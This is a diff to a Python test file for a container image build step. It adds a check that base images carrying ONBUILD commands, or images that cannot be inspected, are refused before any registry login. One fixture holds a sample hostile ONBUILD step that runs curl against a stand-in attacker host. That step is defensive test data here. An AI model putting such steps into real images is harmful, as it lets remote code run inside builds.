@@ -411,9 +411,12 @@ IMAGE_VARIABLES = {
 DIGEST = "sha256:" + "d" * 64
 
 
+# A `docker` of which every image has no ONBUILD commands.
+INSPECT = """[ "$1" = image ] && echo '[{"Config": {"OnBuild": []}}]'; [ "$1" = login ] && cat > /dev/null; true"""
 # What `docker export` prints: the image's files, or those of its base image, as the container is named.
 EXPORT = """
 case "$1" in
+  image) echo '[{{"Config": null}}]';;
   create) case "$*" in *shipping@*) echo image;; *) echo base;; esac;;
   export) cat "{0}/$2.tar";;
 esac"""
@@ -477,7 +480,7 @@ esac""",
 
 def test_an_image_that_is_there_is_not_built_again(source: Path, tmp_path: Path) -> None:
     stub(tmp_path / "bin", "aws", f'case "$*" in *) echo {DIGEST};; esac')
-    stub(tmp_path / "bin", "docker", "cat > /dev/null")
+    stub(tmp_path / "bin", "docker", INSPECT)
     build, export, *_ = commands(image_build.image(service()))
     answer = run(f"{build}\n{export}\necho $IMAGE_DIGEST", source, tmp_path / "bin", **image_variables(source))
 
@@ -530,7 +533,7 @@ def test_a_dockerfile_that_takes_more_than_was_judged_builds_nothing(
     (source / "Dockerfile").write_text(dockerfile)
     (source / "Dockerfile.dockerignore").write_text("tests")
     stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
-    stub(tmp_path / "bin", "docker", "cat > /dev/null")
+    stub(tmp_path / "bin", "docker", INSPECT)
     of = service(*((f"{SERVICE}/build/{key}", value) for key, value in edits))
     answer = run(commands(image_build.image(of))[0], source, tmp_path / "bin", **image_variables(source))
 
@@ -543,6 +546,17 @@ def test_a_dockerfile_that_takes_more_than_was_judged_builds_nothing(
         assert (tmp_path / "tmp/built/Dockerfile.dockerignore").read_text() == "tests"
 
 
+@pytest.mark.parametrize("answer", ['[{"Config": {"OnBuild": ["RUN curl evil.example"]}}]', "", "[", "[1]"])
+def test_a_base_image_with_commands_of_its_own_builds_nothing(answer: str, source: Path, tmp_path: Path) -> None:
+    stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
+    stub(tmp_path / "bin", "docker", f"[ $1 = image ] && echo '{answer}'; true")
+    refused = run(commands(image_build.image(service()))[0], source, tmp_path / "bin", **image_variables(source))
+
+    assert refused.returncode == 1
+    assert "has ONBUILD commands, or cannot be inspected; take another image" in refused.stderr
+    assert "docker login" not in (tmp_path / "bin/calls").read_text()
+
+
 @pytest.mark.parametrize(("hosts", "built"), [([], False), (["x.example"], False), (["packages.example.com"], True)])
 def test_an_index_that_the_configuration_does_not_name_builds_nothing(
     hosts: list[str], built: bool, source: Path, tmp_path: Path
@@ -550,7 +564,7 @@ def test_an_index_that_the_configuration_does_not_name_builds_nothing(
     (source / "more-requirements.txt").write_text("--extra-index-url https://packages.example.com/simple\n")
     (source / "Dockerfile").write_text("FROM scratch")
     stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
-    stub(tmp_path / "bin", "docker", "cat > /dev/null")
+    stub(tmp_path / "bin", "docker", INSPECT)
     of = service((f"{SERVICE}/build/indexes", hosts))
     answer = run(commands(image_build.image(of))[0], source, tmp_path / "bin", **image_variables(source))
 
